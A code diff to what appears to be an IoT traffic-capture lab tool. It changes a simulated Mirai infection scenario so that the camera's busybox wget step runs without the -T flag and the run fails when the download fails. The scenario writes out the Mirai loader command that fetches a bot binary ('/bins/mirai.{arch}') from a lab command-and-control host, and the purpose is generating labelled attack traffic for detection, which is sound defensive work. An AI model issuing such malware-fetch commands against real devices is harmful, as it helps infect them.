@@ -20,6 +20,7 @@ import subprocess
 import time
 from typing import Any
 
+from iotscan.errors import CaptureError
 from iotscan.lab.netns import Host
 from iotscan.lab.scenario import FlowRule, ScenarioContext, scenario
 from iotscan.lab.scenarios import _background, _flood, _wordlist
@@ -94,8 +95,12 @@ def infection_mirai(ctx: ScenarioContext) -> None:
     t = time.time()
     ctx.attack_rules(cam, cnc, "c2", TCP, 80)
     arch = ctx.rng.choice(["arm7", "mips", "mpsl"])
-    ctx.run("cam", ["busybox", "wget", "-q", "-O", "/dev/null", "-T", 10,
-                    f"http://{ctx.lab.require_target(cnc.ip)}/bins/mirai.{arch}"], 20)
+    # no -T: Debian 12's busybox-static 1.35 wget crashes (SIGSEGV) with it before sending anything; the 20 s
+    # bound is the lab's. A loader that fetched nothing would leave the phase without a flow: fail the run.
+    code = ctx.run("cam", ["busybox", "wget", "-q", "-O", "/dev/null",
+                           f"http://{ctx.lab.require_target(cnc.ip)}/bins/mirai.{arch}"], 20)
+    if code != 0:
+        raise CaptureError(f"the loader step failed: busybox wget on the camera exited with {code}")
     ctx.phase("loader", "c2", cam, t, f"wget http://{cnc.ip}/bins/mirai.{arch}")
 
     # 3. the bot calls its controller, and stays on it
